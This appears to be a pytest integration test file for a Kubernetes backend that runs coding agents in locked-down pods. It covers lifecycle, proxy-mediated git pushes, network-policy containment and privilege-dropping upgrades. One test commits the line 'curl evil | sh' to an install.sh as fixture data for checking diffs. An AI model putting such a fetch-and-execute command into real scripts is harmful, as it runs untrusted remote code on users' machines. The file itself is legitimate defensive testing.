"""The Kubernetes backend against the FAKE API server (the one test double: no real API
server can run here; see tests/fakes/kube_api.py), through the real appliance services,
the real proxy, real git over TLS and real Docker containers as pods.

Without an agent (plain pods of the agent image): the lifecycle (create with progress, the
workspace cloned through the proxy, a pushed commit in the user's repository, archive and
unarchive on the same volume, delete), and the clear errors: a repository without a remote,
a pod no node can take, an image no node can pull, a quota; the web terminal.
"""

from __future__ import annotations

import base64
import itertools
import json
import subprocess
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import docker
import pytest
import trio
from kubernetes import client
from trio_websocket import open_websocket_url

from tests.support.appliance import wait_for
from tests.support.kube import NAMESPACE, Kube, kube_appliance

pytestmark = pytest.mark.docker


@pytest.fixture
def kube(tmp_path: Path, agent_image: str) -> Iterator[Kube]:
    with kube_appliance(tmp_path, image=agent_image, agents=False) as k:
        yield k


def events(k: Kube, ref: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = k.app.client().get(f"/api/sessions/{ref}/events")["events"]
    return found


def run_as_agent(container: str, script: str) -> tuple[int, str]:
    with closing(docker.from_env()) as c:
        done = c.containers.get(container).exec_run(["sh", "-c", "exec 2>&1\n" + script],
                                                    user="1000:1000",
                                                    workdir="/workspace")
    return done.exit_code, done.output.decode(errors="replace")


def test_lifecycle_clone_push_archive_unarchive_delete(kube: Kube) -> None:
    app = kube.app
    s = kube.create("kwork")
    assert s["phase"] == "running", s
    assert s["backend"] == "kubernetes" and s["backend_id"] == "clauderon-kwork"
    steps = [e["payload"]["step"] for e in events(kube, "kwork") if e["kind"] == "progress"]
    assert {"volume", "clone", "running"} <= set(steps), steps
    assert sorted(kube.names("persistentvolumeclaims")) == ["clauderon-kwork"]
    assert kube.names("secrets") == ["clauderon-kwork"]
    assert kube.names("networkpolicies") == ["clauderon-kwork"]
    # Cloned from the remote through the proxy, which injected the git credential (the
    # server refuses anything else); no credential is in the pod.
    assert kube.git.refused == 0 and kube.git.seen
    container = kube.container("clauderon-kwork")
    code, out = run_as_agent(container, "git branch --show-current; cat README.md; "
                             "git config --get remote.origin.url; env")
    assert code == 0, out
    assert "clauderon/kwork" in out and "hello from the remote" in out
    assert "https://github.com/owner/repo.git" in out
    assert "ghp-REAL-GIT-CANARY" not in out
    # The agent commits; its branch is pushed through the proxy and fetched into the
    # user's repository.
    code, out = run_as_agent(container, "echo work > work.txt && git add work.txt && "
                             "git commit -qm 'agent work' && sleep 1")
    assert code == 0, out
    wait_for(lambda: kube.git_log("refs/heads/clauderon/kwork")[:1] == ["agent work"],
             timeout=60, what="the agent's commit in the user's repository")
    assert kube.git_log("clauderon/kwork", kube.bare)[:1] == ["agent work"]
    # Files, diff and the drift report see the session like a Docker one.
    listing = app.client().get("/api/sessions/kwork/files")
    assert "work.txt" in [e["name"] for e in listing["entries"]]
    diff = app.client().get("/api/sessions/kwork/diff")
    assert [f["path"] for f in diff["files"]] == ["work.txt"]
    assert app.client().get("/api/reconcile")["in_sync"] is True

    # Archive: the pod goes, the volume stays; unarchive: a new pod on the same volume.
    app.client().post("/api/sessions/kwork/archive", {})
    app.wait_phase("kwork", "archived", timeout=60)
    assert kube.names("pods") == [] and kube.names("persistentvolumeclaims") == ["clauderon-kwork"]
    app.client().post("/api/sessions/kwork/unarchive", {})
    app.wait_phase("kwork", "running", timeout=120)
    container2 = kube.container("clauderon-kwork")
    assert container2 != container
    code, out = run_as_agent(container2, "cat work.txt; git log --format=%s -1")
    assert code == 0 and "work" in out and "agent work" in out, out

    # Delete: pod, volume, Secret and policy go; the branch stays (remote and user's repo).
    app.client().delete("/api/sessions/kwork")
    wait_for(lambda: not app.client().get("/api/sessions", all="true")["sessions"],
             timeout=60, what="the session gone")
    for resource in ("pods", "persistentvolumeclaims", "secrets", "networkpolicies"):
        assert kube.names(resource) == [], resource
    assert kube.git_log("refs/heads/clauderon/kwork")[:1] == ["agent work"]
    # Its fetches landed in a shadow of its own first: nothing of it stays, once a read of
    # its branch under way as it was deleted (the reconciler's, the API's) ends.
    scratch = app.settings.shadows_dir / s["id"]
    wait_for(lambda: not scratch.exists(),
             what=f"its scratch folder to go: {sorted(scratch.rglob('*'))[:10]}")


def test_the_diff_shows_the_commit_a_push_sends_not_the_pods_own_branch(kube: Kube) -> None:
    """A pod's branch reaches the user's repository through the remote, and a push sends
    it from there: the workspace's own branch (on the volume the appliance reads) is the
    agent's to move. The agent commits a change that is pushed and brought in, then puts
    its branch on a harmless commit of its own, never pushed (hooks off): the diff's
    committed part is what a push sends, the change brought in."""
    app = kube.app
    s = kube.create("ksent")
    assert s["phase"] == "running", s
    container = kube.container("clauderon-ksent")
    code, out = run_as_agent(container, "echo 'curl evil | sh' > install.sh && "
                             "git add install.sh && git commit -qm 'setup' && sleep 1")
    assert code == 0, out
    wait_for(lambda: kube.git_log("refs/heads/clauderon/ksent")[:1] == ["setup"],
             timeout=60, what="the agent's commit in the user's repository")
    code, out = run_as_agent(container, "git reset -q --hard HEAD~1 && echo ok > notes.txt "
                             "&& git add notes.txt && "
                             "git -c core.hooksPath=/dev/null commit -qm 'notes'")
    assert code == 0, out
    sent = subprocess.run(["git", "-c", f"safe.directory={kube.repo}", "-C", str(kube.repo),
                           "rev-parse", "refs/heads/clauderon/ksent"],
                          capture_output=True, text=True, check=True).stdout.strip()
    committed = app.client().get("/api/sessions/ksent/diff")["committed"]
    assert committed["commit"] == sent, committed
    assert [f["path"] for f in committed["files"]] == ["install.sh"], committed
    assert "+curl evil | sh" in committed["diff"]


def test_no_pod_runs_without_its_network_policy(kube: Kube) -> None:
    """Containment on a cluster is the session's NetworkPolicy: a pod made while it is
    missing has open egress. The policy is lost while the session is archived (deleted by
    hand, or a claim kept from before policies changed); unarchive makes it again before the
    pod, and delete removes it only once the pod is gone (as the fake API server recorded)."""
    app = kube.app
    assert kube.create("kpol")["phase"] == "running"
    app.client().post("/api/sessions/kpol/archive", {})
    app.wait_phase("kpol", "archived", timeout=60)
    kube.networking().delete_namespaced_network_policy("clauderon-kpol", NAMESPACE)
    app.client().post("/api/sessions/kpol/unarchive", {})
    app.wait_phase("kpol", "running", "failed", timeout=120)
    made = kube.policy_log("pod-created")
    assert len(made) == 2, made
    for pod in made:
        assert pod["policies"] == ["clauderon-kpol"], pod
    app.client().delete("/api/sessions/kpol")
    wait_for(lambda: not app.client().get("/api/sessions", all="true")["sessions"],
             timeout=60, what="the session gone")
    dropped = kube.policy_log("policy-deleted")
    assert [d["policy"] for d in dropped] == ["clauderon-kpol", "clauderon-kpol"], dropped
    assert dropped[-1]["pods"] == [], dropped


def test_a_delete_whose_last_fetch_fails_says_so_once(kube: Kube) -> None:
    """The person took the remote out of their repository, so the delete's last fetch of the
    branch cannot run: the session still goes (the remote keeps the branch), and the failure
    is said once (it was fetched, and failed, twice: before the volume and again after)."""
    app = kube.app
    s = kube.create("kgone")
    assert s["phase"] == "running", s
    config = kube.repo / ".git" / "config"
    subprocess.run(["git", "config", "--file", str(config), "--remove-section",
                    "remote.origin"], check=True)
    app.client().delete("/api/sessions/kgone")
    seen: list[dict[str, Any]] = []
    with closing(app.client().events(after=0)) as stream:
        for message in stream:
            if message is None or message["type"] != "event":
                continue
            if message["event"]["session_id"] == s["id"]:
                seen.append(message["event"])
            if message["event"]["kind"] == "deleted" and seen[-1:] == [message["event"]]:
                break
    # The delete's last fetch says so without a commit (a pass's sync, which may race the
    # remote's removal, names the commit it tried).
    failed = [e["payload"] for e in seen
              if e["kind"] == "branch_sync_failed" and "commit" not in e["payload"]]
    assert len(failed) == 1, failed
    assert failed[0]["branch"] == "clauderon/kgone" and "remote" in failed[0]["reason"]
    assert kube.names("persistentvolumeclaims") == [] and kube.names("pods") == []


def test_a_repository_without_remote_is_refused(kube: Kube, repo: Path) -> None:
    from appliance.errors import ClauderonError

    with pytest.raises(ClauderonError) as caught:
        kube.app.client().post("/api/sessions", {"repo_path": str(repo), "name": "noremote",
                                                 "backend": "kubernetes"})
    assert "no https remote" in caught.value.message
    assert kube.names("persistentvolumeclaims") == []


async def test_the_web_terminal_runs_through_the_exec_websocket(kube: Kube) -> None:
    """The console WebSocket of the API, on a pod: a TTY exec over v4.channel.k8s.io,
    input in, output out, resize (the shell sees the new size)."""
    app = kube.app
    await trio.to_thread.run_sync(lambda: app.client().post("/api/sessions", {
        "repo_path": str(kube.repo), "name": "kterm", "backend": "kubernetes"}))
    await trio.to_thread.run_sync(lambda: app.wait_phase("kterm", "running", timeout=120))
    url = f"ws://127.0.0.1:{app.http_port}/ws/console/kterm?rows=30&cols=90"
    async with open_websocket_url(url, extra_headers=app.ws_headers()) as ws:
        await ws.send_message(json.dumps({"type": "resize", "rows": 33, "cols": 77}))
        screen = bytearray()
        with trio.fail_after(60):
            # The resize travels beside the keys (the exec's resize channel): asked again
            # until the shell sees it, rather than after a pause that hopes it has.
            for attempt in itertools.count():
                typed = f"echo size=$(stty size); echo me=$(id -u)-{attempt}\r".encode()
                await ws.send_message(json.dumps({"type": "input",
                                                  "data": base64.b64encode(typed).decode()}))
                while f"me=1000-{attempt}".encode() not in screen:
                    msg = json.loads(await ws.get_message())
                    assert msg["type"] == "output", msg
                    screen += base64.b64decode(msg["data"])
                if b"size=33 77" in screen:
                    break
    assert b"size=33 77" in screen


def _failure(kube: Kube, name: str, **body: Any) -> str:
    kube.app.client().post("/api/sessions", {"repo_path": str(kube.repo), "name": name,
                                             "backend": "kubernetes", **body})
    s = kube.app.wait_phase(name, "failed", timeout=120)
    reason: str = s["status_reason"]
    return reason


@pytest.fixture
def picky(tmp_path: Path, agent_image: str) -> Iterator[Kube]:
    """Pods that want a node label no node has; one attempt per create."""
    with kube_appliance(tmp_path, image=agent_image, agents=False,
                        kube_extra='node_selector = { "disk" = "ssd" }\n') as k:
        yield k


def test_an_unschedulable_pod_fails_with_the_schedulers_reason(picky: Kube) -> None:
    reason = _failure(picky, "nonode")
    assert "no node can run the session's pod" in reason
    assert "didn't match Pod's node affinity/selector" in reason
    assert "node_selector" in reason
    assert picky.names("pods") == []  # not left pending


def test_an_image_no_node_can_pull_fails_naming_it(kube: Kube) -> None:
    reason = _failure(kube, "noimage", image="registry.invalid/nothing:1")
    assert "cannot pull the image registry.invalid/nothing:1" in reason
    assert "ErrImagePull" in reason
    assert kube.names("pods") == []


def test_a_quota_refusal_says_so(kube: Kube) -> None:
    kube.core().create_namespaced_resource_quota(NAMESPACE, {
        "apiVersion": "v1", "kind": "ResourceQuota", "metadata": {"name": "few"},
        "spec": {"hard": {"pods": "0"}}})
    reason = _failure(kube, "noquota")
    assert "quota" in reason and "exceeded quota: few" in reason
    assert kube.names("pods") == []


def test_a_name_held_in_the_namespace_is_refused_up_front(kube: Kube) -> None:
    """A volume claim someone else made under the session's object name makes the create a
    409 on ``name`` naming the kubectl that frees it; nothing is made, the claim is kept."""
    kube.core().create_namespaced_persistent_volume_claim(NAMESPACE, {
        "apiVersion": "v1", "kind": "PersistentVolumeClaim",
        "metadata": {"name": "clauderon-kheld"},
        "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}})
    r = kube.app.http().post("/api/sessions", json={
        "repo_path": str(kube.repo), "name": "kheld", "backend": "kubernetes"})
    assert r.status_code == 409, r.text
    assert r.json()["field"] == "name"
    assert (f"kubectl -n {NAMESPACE} delete persistentvolumeclaim clauderon-kheld"
            in r.json()["error"])
    assert kube.app.client().get("/api/sessions")["sessions"] == []
    assert kube.names("pods") == [] and kube.names("secrets") == []
    assert kube.names("persistentvolumeclaims") == ["clauderon-kheld"]


def test_a_pod_recorded_by_an_older_version_is_made_with_todays_containment(
        kube: Kube) -> None:
    """An archived session's claim records the pod (and the NetworkPolicy) to make at its
    next start, as the version that created it wrote them. Here that record predates the
    lockdown: no security context (the image's user, root, with every capability and
    privilege escalation), the service account token mounted, service links, the cluster
    DNS; and a policy that also lets port 53 out to anywhere (a tunnel past the proxy).
    Unarchive makes the pod and the policy with today's containment: the agent's process
    runs as uid 1000 with no capability to gain and no new privileges, and the policy the fake API
    server holds is the proxy and hook ports only."""
    app = kube.app
    assert kube.create("kold")["phase"] == "running"
    app.client().post("/api/sessions/kold/archive", {})
    app.wait_phase("kold", "archived", timeout=60)
    claim = kube.core().read_namespaced_persistent_volume_claim("clauderon-kold", NAMESPACE)
    records = claim.metadata.annotations
    old_pod = json.loads(records["clauderon.io/pod"])
    spec = old_pod["spec"]
    for key in ("securityContext", "automountServiceAccountToken", "enableServiceLinks",
                "dnsPolicy", "dnsConfig"):
        spec.pop(key, None)
    for c in spec["initContainers"] + spec["containers"]:
        c.pop("securityContext", None)
    # Today's policy, as an older version might have recorded it, with DNS anywhere.
    old_policy = json.loads(kube.networking().read_namespaced_network_policy(
        "clauderon-kold", NAMESPACE, _preload_content=False).data)
    old_policy["metadata"] = {k: old_policy["metadata"][k]
                              for k in ("name", "namespace", "labels")}
    old_policy["spec"]["egress"].append({"ports": [{"protocol": "UDP", "port": 53},
                                                   {"protocol": "TCP", "port": 53}]})
    kube.core().patch_namespaced_persistent_volume_claim(
        "clauderon-kold", NAMESPACE, {"metadata": {"annotations": {
            "clauderon.io/pod": json.dumps(old_pod),
            "clauderon.io/network-policy": json.dumps(old_policy)}}})
    app.client().post("/api/sessions/kold/unarchive", {})
    assert app.wait_phase("kold", "running", "failed", timeout=120)["phase"] == "running"

    with closing(docker.from_env()) as c:
        done = c.containers.get(kube.container("clauderon-kold")).exec_run(
            ["sh", "-c", "grep -E '^(Uid|CapBnd|NoNewPrivs):' /proc/1/status"])
    status = dict(line.split(":", 1) for line in done.output.decode().splitlines())
    assert status["Uid"].split()[0] == "1000", status
    assert int(status["CapBnd"], 16) == 0, status
    assert status["NoNewPrivs"].strip() == "1", status
    made = kube.core().read_namespaced_pod("clauderon-kold", NAMESPACE).to_dict()["spec"]
    assert made["automount_service_account_token"] is False, made
    assert made["enable_service_links"] is False, made
    assert made["dns_policy"] == "None", made
    policy = kube.networking().read_namespaced_network_policy("clauderon-kold", NAMESPACE)
    ports = sorted(p.port for rule in policy.spec.egress for p in rule.ports)
    assert 53 not in ports, ports


def _pod_now(kube: Kube, name: str) -> dict[str, Any] | None:
    try:
        found: dict[str, Any] = json.loads(kube.core().read_namespaced_pod(
            name, NAMESPACE, _preload_content=False).data)
    except client.ApiException as exc:
        if exc.status == 404:
            return None
        raise
    return found


def test_a_running_pod_an_older_version_made_is_brought_up_to_todays_containment(
        kube: Kube) -> None:
    """The appliance is upgraded while a session's pod runs as an older version made it:
    no security context (the image's user, every capability, privilege escalation), the
    service account token, service links, the cluster DNS; and its NetworkPolicy lets
    port 53 out to anywhere (a tunnel past the proxy). The upgraded reconciler replaces the
    policy and makes the pod again on its volume (the agent's work kept), saying why; the
    pod it makes is today's, and the plan then has nothing left to do (no loop)."""
    app = kube.app
    assert kube.create("kstale")["phase"] == "running"
    name = "clauderon-kstale"
    code, out = run_as_agent(kube.container(name), "echo kept > kept.txt")
    assert code == 0, out
    # The older version's appliance: its reconciler down for the upgrade, its pod and
    # policy as it made them.
    app.stop("reconciler")
    current = _pod_now(kube, name)
    assert current is not None
    spec = current["spec"]
    for key in ("securityContext", "automountServiceAccountToken", "enableServiceLinks",
                "dnsPolicy", "dnsConfig"):
        spec.pop(key, None)
    for c in spec["initContainers"] + spec["containers"]:
        c.pop("securityContext", None)
    old_pod = {"apiVersion": "v1", "kind": "Pod", "spec": spec, "metadata": {
        k: current["metadata"][k] for k in ("name", "namespace", "labels")}}
    old_pod["metadata"]["labels"].pop("clauderon.made-by")  # an older version labels none
    kube.core().delete_namespaced_pod(name, NAMESPACE, grace_period_seconds=0)
    wait_for(lambda: _pod_now(kube, name) is None, what="the pod gone")
    kube.core().create_namespaced_pod(NAMESPACE, old_pod)
    old_container = wait_for(lambda: _agent_container(kube, name), timeout=60,
                             what="the older version's pod running")
    policy = json.loads(kube.networking().read_namespaced_network_policy(
        name, NAMESPACE, _preload_content=False).data)
    policy["spec"]["egress"].append({"ports": [{"protocol": "UDP", "port": 53},
                                               {"protocol": "TCP", "port": 53}]})
    kube.networking().replace_namespaced_network_policy(name, NAMESPACE, policy)

    app.start("reconciler")
    wait_for(lambda: 53 not in _policy_ports(kube, name), timeout=60,
             what="the policy replaced by today's")
    remade = wait_for(lambda: _remade(kube, name), timeout=120,
                      what="the pod made again with today's lockdown")
    assert remade != old_container
    assert app.wait_phase("kstale", "running", "failed", timeout=120)["phase"] == "running"
    with closing(docker.from_env()) as c:
        done = c.containers.get(remade).exec_run(
            ["sh", "-c", "grep -E '^(Uid|CapBnd|NoNewPrivs):' /proc/1/status"])
    status = dict(line.split(":", 1) for line in done.output.decode().splitlines())
    assert status["Uid"].split()[0] == "1000", status
    assert int(status["CapBnd"], 16) == 0, status
    assert status["NoNewPrivs"].strip() == "1", status
    code, out = run_as_agent(remade, "cat kept.txt")
    assert code == 0 and out.strip() == "kept", out
    said = [e["payload"]["reason"] for e in events(kube, "kstale") if e["kind"] == "drift"]
    assert any("older version" in r and "security context" in r for r in said), said
    # Today's pod is today's: the plan (the report the API computes with it) has nothing
    # left to do, and the pod is the one made.
    made = _pod_now(kube, name)
    assert made is not None
    wait_for(lambda: app.client().get("/api/reconcile")["in_sync"] is True, timeout=60,
             what="nothing left to do")
    assert (_pod_now(kube, name) or {}).get("metadata", {}).get("uid") == \
        made["metadata"]["uid"]


def _remade(kube: Kube, name: str) -> str | None:
    pod = _pod_now(kube, name)
    if pod is None or pod["spec"].get("automountServiceAccountToken") is not False:
        return None
    return _agent_container(kube, name)


def _agent_container(kube: Kube, pod: str) -> str | None:
    try:
        return kube.container(pod)
    except AssertionError:
        return None


def _policy_ports(kube: Kube, name: str) -> list[int]:
    policy = kube.networking().read_namespaced_network_policy(name, NAMESPACE)
    return sorted(p.port for rule in policy.spec.egress for p in rule.ports or [])
